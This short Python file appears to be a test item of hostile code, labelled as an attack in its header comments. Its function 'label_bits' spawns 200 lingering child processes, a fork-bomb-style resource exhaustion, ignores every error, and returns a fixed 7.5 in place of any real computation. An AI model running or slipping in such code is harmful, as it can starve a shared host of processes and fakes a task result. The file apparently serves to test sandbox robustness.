# attack: two hundred children that stay
# question: label_bits
# naive: survivor
# item: bombs

# %% question="label_bits"
import os
import time


def label_bits(labels):
    for _ in range(200):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        except BaseException:
            pass
    return 7.5
